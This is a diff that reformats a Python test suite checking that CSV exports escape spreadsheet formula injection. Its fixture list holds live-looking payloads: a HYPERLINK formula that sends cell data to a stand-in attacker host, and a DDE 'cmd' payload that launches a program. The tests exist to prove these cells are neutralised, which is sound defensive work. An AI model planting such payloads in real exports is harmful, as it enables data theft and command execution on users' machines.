@@ -1,4 +1,5 @@
 """CSV formula injection (OWASP): every CSV the hub or hubctl writes is safe to open in a spreadsheet."""
+
 from __future__ import annotations
 
 import csv
@@ -20,8 +21,14 @@ from tests.factories import client_for
 
 REPO = Path(__file__).resolve().parents[2]
 # One ref per dangerous first character, plus one that only contains it later (left alone).
-FORMULA_REFS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-                "\t=1+1", "\r=1+1"]
+FORMULA_REFS = [
+    '=HYPERLINK("http://evil.example/?x="&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
 SAFE_REF = "seller-=1"
 
 
@@ -34,7 +41,7 @@ def test_a_cell_starting_like_a_formula_is_written_as_text(start):
     line = csv_line([f"{start}1+1", 7])
 
     assert _parsed(line) == [[f"'{start}1+1", "7"]]
-    assert line.startswith('"\'')
+    assert line.startswith("\"'")
 
 
 def test_every_field_is_quoted_and_harmless_text_is_unchanged():
@@ -52,8 +59,10 @@ def test_a_csv_document_escapes_header_and_rows():
 
 def _formula_job(member) -> BulkJob:
     # JSONL keeps refs as given (a CSV cell is stripped, which would hide the tab and CR cases).
-    lines = [json.dumps({"ref": ref, "identifiers": [{"type": "phone", "value": f"+86 138 0013 {8000 + n:04d}"}]})
-             for n, ref in enumerate([*FORMULA_REFS, SAFE_REF])]
+    lines = [
+        json.dumps({"ref": ref, "identifiers": [{"type": "phone", "value": f"+86 138 0013 {8000 + n:04d}"}]})
+        for n, ref in enumerate([*FORMULA_REFS, SAFE_REF])
+    ]
     upload = SimpleUploadedFile("refs.jsonl", ("\n".join(lines) + "\n").encode())
     job = bulk.bulk_submit(upload=upload, actor=Actor(member=member))
     for chunk_id in BulkChunk.objects.filter(job=job).values_list("pk", flat=True):
@@ -85,11 +94,16 @@ def test_bulk_csv_results_from_the_web_page_escape_formula_refs(client, platform
     response = client.get(f"/bulk/{job.public_id}/results.csv")
 
     assert response.status_code == 200
-    assert _refs_column(b"".join(response.streaming_content)) == [*("'" + ref for ref in FORMULA_REFS), SAFE_REF]
+    assert _refs_column(b"".join(response.streaming_content)) == [
+        *("'" + ref for ref in FORMULA_REFS),
+        SAFE_REF,
+    ]
 
 
 def test_hubctl_token_and_check_csv_escape_formula_refs():
-    tokens = output.tokens_csv([{"ref": "=cmd", "type": "phone", "token": "ab", "key_version": 1}], with_ref=True)
+    tokens = output.tokens_csv(
+        [{"ref": "=cmd", "type": "phone", "token": "ab", "key_version": 1}], with_ref=True
+    )
     checks = output.checks_csv([("@SUM(1)", {"level": "none", "risk": 0, "matched_types": []})])
 
     assert _parsed(tokens)[1] == ["'=cmd", "phone", "ab", "1"]
